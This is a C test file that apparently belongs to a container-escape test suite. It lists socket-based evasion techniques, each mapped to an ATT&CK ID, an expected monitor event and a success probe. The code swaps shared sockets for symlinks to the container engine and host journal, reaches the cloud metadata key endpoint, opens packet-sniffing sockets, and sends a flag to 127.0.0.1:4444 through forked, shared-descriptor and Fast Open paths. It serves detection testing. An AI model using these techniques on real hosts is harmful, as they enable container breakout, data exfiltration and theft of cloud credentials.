/* SPDX-License-Identifier: Apache-2.0 */
/* Ways to a peer that the service does not know, by a socket or a name that it knows. */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/e2e/escapes/techniques/technique.h"

/* Puts a link in the place of a socket in the volume, as another container with this volume could. */
static int link_over(const char *name, const char *to)
{
	char path[96], kept[112];

	snprintf(path, sizeof(path), HOST_DIR "%s", name);
	snprintf(kept, sizeof(kept), "%s" KEPT, path);
	return rename(path, kept) < 0 || symlink(to, path) < 0 ? -1 : 0;
}

static int link_to_engine(struct host *h)
{
	(void)h;
	return link_over(PEER_SOCKET, ENGINE_SOCKET);
}

static int link_to_journal(struct host *h)
{
	(void)h;
	return link_over(LOG_SOCKET, JOURNAL_SOCKET);
}

static int connect_by_link(int victim)
{
	(void)victim;
	return FAILED(connect_unix(PEER_SOCKET, SOCK_STREAM));
}

static int send_by_link(int victim)
{
	(void)victim;
	return FAILED(send_unix(LOG_SOCKET));
}

static int connect_datagrams_by_link(int victim)
{
	int fd = connect_unix(LOG_SOCKET, SOCK_DGRAM);

	(void)victim;
	return fd < 0 ? errno : FAILED(send(fd, "hello", 5, 0));
}

static bool journal_reached(struct host *h)
{
	return h->world->journal > 0;
}

static int connect_to_metadata(int victim)
{
	(void)victim;
	return FAILED(connect_inet(METADATA, NET_PORT));
}

static int connect_to_carrier_nat(int victim)
{
	(void)victim;
	return FAILED(connect_inet(CARRIER_NAT, NET_PORT));
}

static int connect_to_other_network(int victim)
{
	(void)victim;
	return FAILED(connect_inet(OTHER_NETWORK, NET_PORT));
}

static bool stray_came(struct host *h)
{
	return h->world->strays > 0;
}

/* A socket that the service never makes. */
static int make_socket(int family, int type, int protocol)
{
	int fd = socket(family, type | SOCK_CLOEXEC, protocol);

	if (fd < 0)
		return errno;
	prove_gain();
	close(fd);
	return 0;
}

static int make_netlink_socket(int victim)
{
	(void)victim;
	return make_socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG);
}

static int make_packet_socket(int victim)
{
	(void)victim;
	return make_socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
}

static int make_multipath_socket(int victim)
{
	(void)victim;
	return make_socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
}

static int fast_open(int victim)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(PORT),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)victim;
	if (fd < 0)
		return errno;
	return FAILED(
		sendto(fd, FLAG, strlen(FLAG), MSG_FASTOPEN, (struct sockaddr *)&a, sizeof(a)));
}

/* Connects a socket that another process has too. */
static int connect_shared(void *socket)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(PORT),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};

	return FAILED(connect(*(const int *)socket, (struct sockaddr *)&a, sizeof(a)));
}

/*
 * A child connects a socket of its parent's, and the parent sends. flags: of clone(2), what else they
 * share.
 */
static int send_by_child(int flags)
{
	static _Alignas(16) char stack[16384];
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), status = 0;
	pid_t pid;

	if (fd < 0)
		return errno;
	pid = clone(connect_shared, stack + sizeof(stack), flags | SIGCHLD, &fd);
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return errno;
	if (status_of(status) != 0)
		return status_of(status);
	return FAILED(write(fd, FLAG, strlen(FLAG)));
}

static int send_by_fork(int victim)
{
	(void)victim;
	return send_by_child(0);
}

static int send_by_shared_table(int victim)
{
	(void)victim;
	return send_by_child(CLONE_FILES);
}

const struct technique socket_evasions[] = {
	{"shared_socket", "T1041", "has a child connect a socket, and sends by it",
	 .seen = "connect 127.0.0.1:4444", .run = send_by_fork, .probe = flag_received},
	{"shared_descriptors", "T1041",
	 "has a child that shares the table of descriptors connect a socket, and sends by it",
	 .seen = "connect 127.0.0.1:4444", .stopped = "connect 127.0.0.1:4444|^clone ",
	 .run = send_by_shared_table, .probe = flag_received},
	{"socket_link", "T1610",
	 "connects to the container engine's socket through a symbolic link of a known name",
	 .seen = "peer " ENGINE_SOCKET, .hook = "unix_stream_connect", .run = connect_by_link,
	 .prepare = link_to_engine, .probe = engine_reached},
	{"message_link", "T1562",
	 "sends to the host's journal through a symbolic link of a known socket's name",
	 .seen = "peer " JOURNAL_SOCKET, .hook = "unix_may_send", .run = send_by_link,
	 .prepare = link_to_journal, .probe = journal_reached},
	{"datagram_link", "T1562", "connects a socket of datagrams through such a link, and sends",
	 .seen = "peer " JOURNAL_SOCKET, .hook = "unix_may_send", .run = connect_datagrams_by_link,
	 .prepare = link_to_journal, .probe = journal_reached},
	{"metadata_peer", "T1552.005",
	 "connects to the address where clouds give out keys, by a port of a private peer",
	 .seen = "connect " METADATA, .run = connect_to_metadata, .probe = stray_came},
	{"carrier_nat_peer", "T1041",
	 "connects to an address of carrier-grade NAT, by a port of a private peer",
	 .seen = "connect " CARRIER_NAT, .run = connect_to_carrier_nat, .probe = stray_came},
	{"other_network", "T1021",
	 "connects to another host of the private network, by a known port",
	 .seen = "connect " OTHER_NETWORK, .run = connect_to_other_network, .probe = stray_came},
	{"netlink_socket", "T1049", "makes a socket to list the host's sockets",
	 .seen = "socket netlink raw 4", .run = make_netlink_socket},
	{"packet_socket", "T1040", "makes a socket that receives each packet of the host",
	 .seen = "socket packet raw 768", .run = make_packet_socket},
	{"multipath_socket", "T1095", "makes a socket of another transport than the service's",
	 .seen = "socket ipv4 stream mptcp", .run = make_multipath_socket},
	{"fast_open", "T1041", "connects by the message that it sends, without connect",
	 .seen = "connect 127.0.0.1:4444", .hook = "socket_sendmsg", .run = fast_open,
	 .probe = flag_received},
	{0},
};
